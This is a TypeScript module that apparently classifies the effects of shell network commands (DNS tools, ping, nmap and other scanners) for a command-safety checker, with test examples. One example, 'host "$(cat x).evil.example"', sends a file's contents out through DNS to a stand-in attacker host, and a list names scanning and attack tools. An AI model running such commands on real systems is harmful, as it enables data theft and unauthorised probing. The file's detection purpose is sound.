/** The network: requests, other machines, names, probes, certificates. */
import { act, type Effect } from "../../contract/effect.ts";
import type { KnownWord } from "../../contract/reading.ts";
import { carries, network as contact } from "../makers.ts";
import type { EffectMaker, ProgramFamily } from "../spec.ts";
import { networkHttp } from "./network-http.ts";
import { networkRemote } from "./network-remote.ts";
import { openssl } from "./openssl.ts";
import { wholly } from "./packages-effects.ts";

const hostWord = (word: KnownWord): string | null =>
  word.value?.replace(/^@/, "").replace(/^.*@/, "").toLowerCase() ?? null;

/** A question about a name tells it to whoever answers: a name that is not known may carry data. */
const asks: EffectMaker = (use) => {
  const words = use.operands.filter(
    (word) => !(word.value ?? "x").startsWith("-") && !(word.value ?? "x").startsWith("+"),
  );
  if (words.length === 0) return [contact(null, use.operands.some(carries))];
  return words.map((word): Effect => contact(hostWord(word), carries(word), "network.look-up"));
};

const probe: EffectMaker = (use) => [
  ...use.operands
    .filter((word) => !(word.value ?? "x").startsWith("-"))
    .map((word): Effect => contact(hostWord(word), carries(word), "network.probe")),
  act("attack.probe"),
];

export const network: ProgramFamily = () => [
  ...networkHttp,
  ...networkRemote,
  {
    names: "dig host nslookup drill whois delv avahi-resolve getent-hosts doggo dog",
    ...wholly(asks),
    unsafe: [
      ["dig example.com", ["network.look-up"]],
      ['host "$(cat x).evil.example"', ["file.read", "network.look-up"]],
      ["whois example.com", ["network.look-up"]],
    ],
  },
  {
    names: "ping ping6 traceroute tracepath mtr fping arping hping3",
    ...wholly(asks),
    unsafe: [["ping -c 1 example.com", ["network.look-up", "network.look-up"]]],
  },
  {
    names:
      "nmap masscan zmap rustscan dirb wfuzz nuclei arp-scan netdiscover enum4linux aircrack-ng subfinder amass theHarvester",
    ...wholly(probe),
    unsafe: [
      ["nmap -sV 10.0.0.0/24", ["network.probe", "attack.probe"]],
      ["masscan 10.0.0.0/8", ["network.probe", "attack.probe"]],
    ],
  },
  ...openssl,
];
